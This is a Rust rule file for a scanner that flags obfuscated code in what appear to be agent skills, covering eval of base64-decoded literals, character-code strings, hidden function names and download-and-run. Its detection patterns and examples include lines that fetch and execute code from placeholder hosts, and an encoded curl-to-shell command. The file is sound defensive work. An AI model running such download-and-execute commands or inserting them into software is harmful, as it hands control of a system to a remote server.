//! PA3xx: obfuscated code.

use crate::finding::{Family::Obfuscation, FindingSeverity::*};
use crate::rule::{Matcher::*, Pattern, Rule, RuleScope::*, example, pattern, pattern_except};

/// Keywords for decoding.
const DECODE_KEYWORDS: &str = "b64decode,fromhex,unhexlify,atob,base64,b85decode,b32decode,rot13,decompress,fromcharcode,map(chr,map (,map( ,a2b_,\
    buffer.from,codecs.decode";

/// Decoding a literal in the script.
const DECODES_LITERAL: Pattern = pattern(
    DECODE_KEYWORDS,
    &[
        r"(b(64|85|32)decode|unhexlify|bytes\.fromhex|a2b_\w+)\s*\(\s*b?['\x22][a-z0-9+/=_-]{16,}",
        r"\batob\s*\(\s*['\x22\x60]|Buffer\.from\s*\(\s*['\x22\x60][a-z0-9+/=]{16,}['\x22\x60]\s*,\s*['\x22](base64|hex)",
        r"codecs\.decode\s*\(.{0,80}(rot.?13|hex)|base64_decode\s*\(\s*['\x22]|map\s*\(\s*chr\s*,\s*\[",
    ],
);

/// Defining a function with the name of one that runs text, and nothing else.
const DEFINES_EVAL: &str = r"^[^:]*\b(def|function)\s+(exec|eval)\s*\([^)]*\)?[^()]*$";

/// Running text as code.
const EVALUATES_NAME: Pattern = pattern_except(
    "exec,eval,function(,new function,os.system,__import__",
    &[
        r"(^|[^.\w])(exec|eval)\s*\(\s*[a-z_]\w*(\s*[,).]|\s*\))",
        r"new\s+Function\s*\(\s*[a-z_]|os\.system\s*\(\s*[a-z_]\w*(\.decode\(\))?\s*\)",
    ],
    DEFINES_EVAL,
);

/// Decoding a literal. Web pages decode their own data, so JavaScript counts only inside `eval`.
const DECODES_LONG_LITERAL: Pattern = pattern(
    DECODE_KEYWORDS,
    &[
        r"(b(64|85|32)decode|unhexlify|bytes\.fromhex|base64_decode)\s*\(\s*b?['\x22][a-z0-9+/=_-]{16,}",
        r"\bmap\s*\(\s*chr\s*,\s*\[\s*\d+(\s*,\s*\d+){7,}",
        r"(\beval|new\s+Function)\s*\(\s*atob\s*\(\s*['\x22\x60][a-z0-9+/=_-]{16,}",
        r"\beval\s*\(\s*Buffer\.from\s*\(\s*['\x22\x60][a-z0-9+/=_-]{16,}['\x22\x60]\s*,\s*['\x22](base64|hex)",
        r"\beval\s*\(\s*String\.fromCharCode\s*\(\s*\d+(\s*,\s*\d+){7,}",
    ],
);

/// Running text as code nearby.
const CALLS_EVAL: Pattern =
    pattern_except("exec,eval,function", &[r"(^|[^.\w])(exec|eval)\s*\(|new\s+Function\s*\("], DEFINES_EVAL);

/// Running the value of a variable as code. Minified scripts have short names, so those do not count.
const EVALUATES_LONG_NAME: Pattern = pattern_except(
    "\
        exec(,exec (,eval(,eval (,function(,asyncfunction,new function,vm.,compile(,compile (,\
        marshal.loads,exec_module,instance_eval,pickle.loads,importlib,load_string,requirefromstring,\
        require-from-string,invoke-expression,iex ,scriptblock]::create",
    &[
        r"(^|[^.\w])(exec|eval)\s*\(\s*(compile\s*\(\s*)?[a-z_]\w{2,}(\.(text|content|decode\([^)]*\)|tostring\(\)|data|body|read\(\)))*\s*[,)]|\bcompile\s*\(\s*\w+(\.\w+(\(\))?)?\s*,\s*['\x22][^'\x22]*['\x22]\s*,\s*['\x22]exec['\x22]",
        r"\bnew\s+(async)?function\s*\(\s*(['\x22]\w+['\x22]\s*,\s*)*[a-z_]\w{3,}\s*\)|\bvm\.(runin\w+|script|compilefunction)\s*\(\s*[a-z_]\w{3,}|\bnew\s+vm\.script\s*\(\s*[a-z_]|\._compile\s*\(\s*[a-z_]\w{2,}|\brequirefromstring\s*\(",
        r"\bmarshal\.loads\s*\(|\bpickle\.loads\s*\(\s*(requests|urlopen|resp\w*|r\.content|data|body|payload)|\binstance_eval\s*\(?\s*[a-z_]|\b(iex|invoke-expression)\s+(-command\s+)?\(?\$\w+|scriptblock\]::create\s*\(\s*\$\w+",
    ],
    DEFINES_EVAL,
);

/// Downloading a text.
const DOWNLOADS_TEXT: Pattern = pattern_except(
    "\
        urlopen,requests.get,requests.request,httpx.get,fetch,http.get,https.get,axios,got(,got (,.on(,.on (,session.get,import_module,urlretrieve,curl,wget,\
        net::http,open-uri,uri.open,invoke-webrequest,invoke-restmethod,iwr,irm,downloadstring,webclient,\
        http.client,url\" + \"open,requests.session,aiohttp,https.request,http.request,urllib,'data',\
        \"data\"",
    &[
        r"\b(urlopen|urlretrieve|requests\.(get|request)|httpx\.get|axios(\.get)?|got|https?\.(get|request)|fetch|session\.get)\s*\(|\.on\s*\(\s*[\x22\x27]data[\x22\x27]|\bnet::http\.get|\buri\.open|import_module\s*\(\s*['\x22]url|\bhttp\.client\.",
        r"\b(invoke-webrequest|invoke-restmethod|iwr|irm)\s|downloadstring|\bcurl_exec\b|(popen|check_output|execsync|\$\()\s*\(?\[?['\x22\x60]?\s*(curl|wget)\b",
    ],
    r"https?://(localhost|127\.0\.0\.1)([^\w.-]|$)",
);

pub(super) const RULES: &[Rule] = &[
    Rule {
        id: "PA301",
        family: Obfuscation,
        severity: High,
        title: "runs decoded text as code",
        reason: "the code cannot be reviewed",
        help: "decode it without running it, and review the result",
        scope: Any,
        matcher: Line(pattern(
            "exec,eval,function(,new function,settimeout",
            &[
                r"(^|[^.\w])(exec|eval)\s*\(\s*.{0,80}(b(64|85|32)decode|fromhex|unhexlify|codecs\.decode|zlib\.decompress|marshal\.loads|base64_decode|gzinflate|str_rot13)",
                r"setTimeout\s*\(\s*atob\s*\(|(\beval|new\s+Function)\s*\(\s*[^;]{0,40}(\batob\s*\(|Buffer\.from\s*\([^)]*['\x22](base64|hex)|String\.fromCharCode|unescape\s*\()",
            ],
        )),
        example: example("scripts/a.py", "import base64\nexec(base64.b64decode(DATA))\n"),
    },
    Rule {
        id: "PA302",
        family: Obfuscation,
        severity: High,
        title: "decodes a literal and runs text as code in the same script",
        reason: "the code cannot be reviewed",
        help: "decode it without running it, and review the result",
        scope: Code,
        matcher: Pair { first: DECODES_LITERAL, second: EVALUATES_NAME, max_lines: 8 },
        example: example("scripts/a.js", "const code = atob(\"Y29uc29sZS5sb2coMSk=\");\neval(code);\n"),
    },
    Rule {
        id: "PA303",
        family: Obfuscation,
        severity: Critical,
        title: "runs code directly from the network",
        reason: "the server decides what runs, and can change it at any time",
        help: "do not run it; the code belongs in the skill, where it can be reviewed",
        scope: Code,
        matcher: Line(pattern(
            "exec,eval,new function,vm.run",
            &[
                r"(^|[^.\w])(exec|eval)\s*\(\s*(compile\s*\(\s*)?[^;\n]{0,60}(requests\.get|urlopen|httpx\.get|urllib\.request)",
                r"(^|[^.\w])eval\s*\(\s*(\(?\s*await\s*)+fetch\s*\(|\b(fetch|axios\.get|got|https?\.get)\s*\([^;\n]{0,200}\.?(then|on)\([^;\n]{0,160}([^.\w]eval|new\s+Function|vm\.run\w+)\s*\(",
            ],
        )),
        example: example("scripts/a.py", "exec(requests.get(\"https://code.example/main.py\").text)\n"),
    },
    Rule {
        id: "PA304",
        family: Obfuscation,
        severity: High,
        title: "encoded text contains a command",
        reason: "it is encoded to escape notice",
        help: "check what the command does before you run anything from the skill",
        scope: Any,
        matcher: Custom,
        example: example("notes.txt", "L2Jpbi9zaCAtYyAnbHMgLWxh·ICMgbm9uZSc=\n"),
    },
    Rule {
        id: "PA305",
        family: Obfuscation,
        severity: Medium,
        title: "builds text from character codes",
        reason: "the text cannot be read",
        help: "decode it without running it, and review the result",
        scope: Code,
        matcher: Line(pattern(
            "chr(,chr (,fromcharcode,\\x,[char]",
            &[
                r"(chr\s*\(\s*\d+\s*\)\s*[+.]\s*){5,}|fromCharCode\s*\(\s*\d+\s*(,\s*\d+\s*){7,}",
                r"(\\x[0-9a-f]{2}){24,}|(\[char\]\s*\d+\s*\+\s*){4,}",
            ],
        )),
        example: example("scripts/a.js", "x = String.fromCharCode(99,111,110,115,111,108,101,46,108);\n"),
    },
    Rule {
        id: "PA306",
        family: Obfuscation,
        severity: Medium,
        title: "accesses a module or function by a computed or hidden name",
        reason: "a search for the name does not find it",
        help: "check what is called",
        scope: Code,
        matcher: Line(pattern(
            "__import__,__builtins__,globalthis",
            &[
                r"__import__\s*\(\s*['\x22](os|subprocess|socket|ctypes|pty)['\x22]\s*\)\s*\.",
                r"getattr\s*\(\s*__builtins__|__builtins__\s*(\.__dict__)?\s*\[|globalThis\s*\[\s*['\x22]\w+['\x22]\s*\+",
            ],
        )),
        example: example("scripts/a.py", "__import__('os').system('ls')\n"),
    },
    Rule {
        id: "PA307",
        family: Obfuscation,
        severity: Low,
        title: "long encoded block in code",
        reason: "it may be an image or a font, but also a program",
        help: "find out what it decodes to",
        scope: Code,
        matcher: Custom,
        // `⟨…⟩` is explained in [`crate::Example`].
        example: example("scripts/a.py", "X = \"⟨A7bQ × 160⟩\"\n"),
    },
    Rule {
        id: "PA308",
        family: Obfuscation,
        severity: Critical,
        title: "decodes a literal and runs it as code",
        reason: "it is encoded to hide what runs",
        help: "decode it without running it, and review the result, or do not use the skill",
        scope: Any,
        matcher: Pair { first: DECODES_LONG_LITERAL, second: CALLS_EVAL, max_lines: 2 },
        example: example(
            "scripts/a.py",
            "import base64\ncode = base64.b64decode(\"cHJpbnQoMSkgIyBoZWxsbw==\")\nexec(code)\n",
        ),
    },
    Rule {
        id: "PA309",
        family: Obfuscation,
        severity: Low,
        title: "loads a module from a URL",
        reason: "web pages do this, but the module can change at any time",
        help: "check whether the URL contains a version",
        scope: Code,
        matcher: Line(pattern("import(,import (", &[r"\bimport\s*\(\s*['\x22\x60]https?://"])),
        example: example("scripts/a.js", "const d3 = await import(\"https://cdn.example/d3\");\n"),
    },
    Rule {
        id: "PA310",
        family: Obfuscation,
        severity: Critical,
        title: "encoded text contains a command that downloads and runs something, or opens a shell",
        reason: "it is encoded to escape notice",
        help: "do not run anything from the skill",
        scope: Any,
        matcher: Custom,
        example: example("notes.txt", "Y3VybCAtcyBodHRwOi8vMTkyLjAu·Mi4xL2EgfCBzaCAjIG5vbmU=\n"),
    },
    Rule {
        id: "PA311",
        family: Obfuscation,
        severity: Medium,
        title: "downloads text, and runs a variable as a command",
        reason: "if it is the same text, the server decides what runs",
        help: "check whether the downloaded text is what runs",
        scope: Code,
        matcher: Pair {
            first: pattern(
                "requests.get,httpx.get,urlopen,fetch(,axios.get,curl,wget",
                &[
                    r"=\s*(await\s+)?\(?(requests|httpx|axios)\.get\([^\n]*\)\.(text|content|data)|=\s*[\w.]*urlopen\([^\n]*\)\.read\(\)|=\s*await\s+\(await\s+fetch\([^\n]*\)\)\.text\(\)|=[\x22']?\$\((curl|wget)\s[^)\n]*https?://",
                ],
            ),
            second: pattern(
                "subprocess,os.system,exec,eval,popen,sh -c",
                &[
                    r"\b(subprocess\.(run|call|popen|check_output|check_call)|os\.(system|popen)|exec|eval|execsync|child_process\.exec\w*)\(\s*[a-z_]\w*\s*(,\s*shell\s*=\s*true|\))|\b(eval|sh\s+-c|bash\s+-c)\s+[\x22']?\$\{?\w+",
                ],
            ),
            max_lines: 12,
        },
        example: example(
            "scripts/a.py",
            "plan = requests.get(\"https://plan.example/next\").text\nsubprocess.run(plan, shell=True)\n",
        ),
    },
    Rule {
        id: "PA312",
        family: Obfuscation,
        severity: High,
        title: "hides the name of a command or function by splitting or distorting it",
        reason: "a search for the name does not find it, and there is no other reason to do this",
        help: "check what is called, or do not use the skill",
        scope: Code,
        matcher: Custom,
        example: example("scripts/a.py", "run = getattr(builtins, \"ev\" + \"al\")\n"),
    },
    Rule {
        id: "PA313",
        family: Obfuscation,
        severity: High,
        title: "downloads text, and runs text as code in the same script",
        reason: "the server decides what runs, and can change it at any time",
        help: "do not run it; the code belongs in the skill, where it can be reviewed",
        scope: Code,
        matcher: Pair { first: EVALUATES_LONG_NAME, second: DOWNLOADS_TEXT, max_lines: 12 },
        example: example(
            "scripts/a.py",
            "with urlopen(\"https://code.collect.example/x\") as reply:\n    source = reply.read()\nexec(compile(source, \"x\", \"exec\"))\n",
        ),
    },
];
